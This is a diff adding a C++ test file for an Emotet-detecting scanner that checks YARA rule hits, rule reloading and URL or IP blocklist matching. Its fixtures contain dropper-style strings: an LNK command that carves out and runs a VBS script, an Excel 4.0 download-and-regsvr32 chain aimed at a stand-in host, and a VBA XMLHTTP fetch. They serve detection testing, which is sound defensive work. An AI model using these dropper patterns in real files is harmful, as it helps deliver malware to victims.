@@ -1,0 +1,211 @@
+// YARA and URL intelligence through the whole engine: findings at the right
+// path with the rule's verdict, reload picking up new rules and refusing a
+// broken strict set, URL lists matching text bodies, and no Emotet rule
+// hit anywhere in the shared corpus.
+#include <gtest/gtest.h>
+#include <unistd.h>
+#include <zip.h>
+
+#include <cstdlib>
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+
+#include "emogate/scanner.h"
+#include "unit/emotet_fixtures.h"
+
+using namespace emogate;
+namespace fs = std::filesystem;
+
+namespace {
+
+struct TempDir {
+  fs::path path;
+  TempDir() {
+    std::string tmpl = (fs::temp_directory_path() / "emogate-yeng-XXXXXX").string();
+    path = ::mkdtemp(tmpl.data());
+  }
+  ~TempDir() {
+    std::error_code ec;
+    fs::remove_all(path, ec);
+  }
+  std::string write(const std::string& rel, const std::string& text) const {
+    fs::path p = path / rel;
+    fs::create_directories(p.parent_path());
+    std::ofstream(p, std::ios::binary) << text;
+    return p.string();
+  }
+};
+
+std::string slurp(const fs::path& p) {
+  std::ifstream in(p, std::ios::binary);
+  std::stringstream ss;
+  ss << in.rdbuf();
+  return ss.str();
+}
+
+std::string make_zip(const TempDir& d, const std::string& member, const std::string& bytes) {
+  std::string path = (d.path / "out.zip").string();
+  int err = 0;
+  zip_t* z = zip_open(path.c_str(), ZIP_CREATE | ZIP_TRUNCATE, &err);
+  zip_source_t* src = zip_source_buffer(z, bytes.data(), bytes.size(), 0);
+  zip_file_add(z, member.c_str(), src, ZIP_FL_ENC_UTF_8);
+  zip_close(z);
+  return slurp(path);
+}
+
+Config shipped_rules_config() {
+  Config c;
+  c.rules.paths = {std::string(EMOGATE_SOURCE_DIR) + "/rules"};
+  c.rules.strict = true;
+  return c;
+}
+
+const Finding* find(const Report& r, FindingType t, const std::string& needle) {
+  for (const auto& f : r.findings)
+    if (f.type == t && f.detail.find(needle) != std::string::npos) return &f;
+  return nullptr;
+}
+
+TEST(YaraEngine, LnkDropperInsideZipIsFlaggedByShippedRules) {
+  TempDir d;
+  auto lnk = fixtures::lnk_with_arguments(
+      "/v:on /c findstr \"glKmfOKnQLYKnNs.*\" \"Form 04.25.2022, US.lnk\" > \"%tmp%\\YEeWXf.vbs\" & \"%tmp%\\YEeWXf.vbs\"");
+  Scanner s(shipped_rules_config());
+  EXPECT_TRUE(s.warnings().empty());
+  Report r = s.scan_file(make_zip(d, "Form 04.25.2022, US.lnk", lnk), "Form.zip");
+  const Finding* f = find(r, FindingType::yara, "Emotet_LNK_Findstr_Appended_Script_2022");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->path, "Form.zip/Form 04.25.2022, US.lnk");
+  EXPECT_EQ(f->verdict, Verdict::malicious);
+  EXPECT_NE(f->detail.find("emotet_lnk_2022.yar"), std::string::npos) << f->detail;
+  EXPECT_NE(f->detail.find("tags=emotet,lnk"), std::string::npos) << f->detail;
+  EXPECT_EQ(r.verdict, Verdict::malicious);
+}
+
+TEST(YaraEngine, XlmDropperWorkbookInsideZipIsFlagged) {
+  // The 2022 Excel 4.0 dropper shape; once the encrypted-ZIP extractor
+  // hands over the decrypted member the same rule applies to it.
+  TempDir d;
+  auto xls = fixtures::biff8_workbook(2, 1, {"urlmon", "URLDownloadToFileA", "http://a.example/x/",
+                                             "..\\oxnv1.ooccxx", "regsvr32.exe -s ..\\oxnv1.ooccxx"});
+  Scanner s(shipped_rules_config());
+  Report r = s.scan_file(make_zip(d, "INV 2022-03.xls", xls), "INV.zip");
+  const Finding* f = find(r, FindingType::yara, "Emotet_XLS_VeryHidden_Macrosheet_Downloader_2022");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->path, "INV.zip/INV 2022-03.xls");
+  EXPECT_EQ(r.verdict, Verdict::malicious);
+}
+
+TEST(YaraEngine, ReloadPicksUpNewRulesAndKeepsOldSetOnFailure) {
+  TempDir d;
+  d.write("rules/a.yar", "rule Old_Rule { strings: $a = \"old-marker\" condition: $a }\n");
+  Config c;
+  c.rules.paths = {(d.path / "rules").string()};
+  Scanner s(c);
+  EXPECT_EQ(find(s.scan_file("new-marker", "x.bin"), FindingType::yara, "New_Rule"), nullptr);
+
+  d.write("rules/b.yar",
+          "rule New_Rule { meta: verdict = \"suspicious\" strings: $a = \"new-marker\" condition: $a }\n");
+  s.reload(c);
+  const Finding* f = nullptr;
+  Report r = s.scan_file("new-marker", "x.bin");
+  f = find(r, FindingType::yara, "New_Rule");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->verdict, Verdict::suspicious);
+
+  // A broken file: strict reload throws and the running set stays.
+  std::string bad = d.write("rules/c.yar", "rule Broken {\n  condition: nope\n}\n");
+  c.rules.strict = true;
+  try {
+    s.reload(c);
+    FAIL() << "strict reload with a broken file must throw";
+  } catch (const std::exception& e) {
+    EXPECT_NE(std::string(e.what()).find(bad + ":2: "), std::string::npos) << e.what();
+  }
+  EXPECT_NE(find(s.scan_file("new-marker", "x.bin"), FindingType::yara, "New_Rule"), nullptr);
+
+  // Non-strict: the broken file is skipped and named in the warnings.
+  c.rules.strict = false;
+  s.reload(c);
+  ASSERT_EQ(s.warnings().size(), 1u);
+  EXPECT_NE(s.warnings()[0].find(bad + ":2: "), std::string::npos) << s.warnings()[0];
+  EXPECT_NE(find(s.scan_file("old-marker", "x.bin"), FindingType::yara, "Old_Rule"), nullptr);
+}
+
+TEST(YaraEngine, RuleSeesExternalVariablesOfZipMembers) {
+  TempDir d;
+  d.write("rules/ctx.yar",
+          "rule Member_Context { condition: parent_type == \"zip\" and depth == 1 and extension == \"txt\""
+          " and filename == \"note.txt\" and path == \"m.zip/note.txt\" and not from_encrypted }\n");
+  Config c;
+  c.rules.paths = {(d.path / "rules").string()};
+  Scanner s(c);
+  Report r = s.scan_file(make_zip(d, "note.txt", "hello"), "m.zip");
+  const Finding* f = find(r, FindingType::yara, "Member_Context");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->path, "m.zip/note.txt");
+}
+
+const char* kUrlhaus =
+    "# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter\n"
+    "\"2100001\",\"2022-03-15 09:58:02\",\"http://shop.example.com/wp-admin/Zx1/\",\"online\",\"\","
+    "\"malware_download\",\"emotet,epoch4,doc\",\"https://urlhaus.abuse.ch/url/2100001/\",\"x\"\n";
+const char* kFeodo = "# Feodo Tracker\n51.75.33.127\n";
+
+std::string message(const std::string& body) {
+  return "From: a@example.org\r\nTo: b@example.net\r\nSubject: invoice\r\n"
+         "Content-Type: text/plain; charset=utf-8\r\n\r\n" + body + "\r\n";
+}
+
+TEST(YaraEngine, UrlhausUrlSplitInVbaStyleStringIsFlagged) {
+  TempDir d;
+  Config c;
+  c.rules.paths = {};
+  c.intel.urlhaus_path = d.write("urlhaus.csv", kUrlhaus);
+  c.intel.feodo_path = d.write("feodo.txt", kFeodo);
+  Scanner s(c);
+  Report r = s.scan_message(message(
+      "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"htt\" & \"p://shop.exa\" + \"mple.com/wp-admin/Zx1/\", False\r\n"
+      "c2 51.75.33.127 and http://benign.example/ and http://shop.example.com/other/"));
+  const Finding* f = find(r, FindingType::url_blocklisted, "http://shop.example.com/wp-admin/Zx1/ listed by URLhaus");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->verdict, Verdict::malicious);
+  EXPECT_NE(f->detail.find("emotet,epoch4,doc"), std::string::npos);
+  EXPECT_NE(f->detail.find("2022-03-15"), std::string::npos);
+  const Finding* host = find(r, FindingType::url_blocklisted, "http://shop.example.com/other/: host listed");
+  ASSERT_NE(host, nullptr);
+  EXPECT_EQ(host->verdict, Verdict::suspicious);
+  EXPECT_NE(find(r, FindingType::url_blocklisted, "51.75.33.127 listed by Feodo Tracker"), nullptr);
+  EXPECT_EQ(find(r, FindingType::url_blocklisted, "benign.example"), nullptr);
+  for (const char* u : {"http://shop.example.com/wp-admin/Zx1/", "http://benign.example/",
+                        "http://shop.example.com/other/"})
+    EXPECT_NE(std::find(r.urls.begin(), r.urls.end(), u), r.urls.end()) << u;
+}
+
+TEST(YaraEngine, MissingIntelFileFailsLoading) {
+  Config c;
+  c.rules.paths = {};
+  c.intel.urlhaus_path = "/nonexistent/urlhaus.csv";
+  EXPECT_THROW(Scanner s(c), std::runtime_error);
+}
+
+TEST(YaraEngine, NoEmotetRuleHitsInSharedCorpus) {
+  const char* env = std::getenv("EMOGATE_SHARED");
+  fs::path corpus = fs::path(env ? env : std::string(EMOGATE_SOURCE_DIR) + "/../shared") / "corpus";
+  if (!fs::exists(corpus)) GTEST_SKIP() << "no shared corpus at " << corpus;
+  Scanner s(shipped_rules_config());
+  std::size_t n = 0;
+  for (const auto& e : fs::recursive_directory_iterator(corpus)) {
+    if (!e.is_regular_file() || e.path().filename() == "MANIFEST.tsv") continue;
+    std::string bytes = slurp(e.path());
+    bool eml = e.path().extension() == ".eml";
+    Report r = eml ? s.scan_message(bytes) : s.scan_file(bytes, e.path().filename().string());
+    for (const auto& f : r.findings)
+      EXPECT_NE(f.type, FindingType::yara) << e.path() << ": " << f.path << ": " << f.detail;
+    ++n;
+  }
+  EXPECT_GT(n, 100u);
+}
+
+}  // namespace
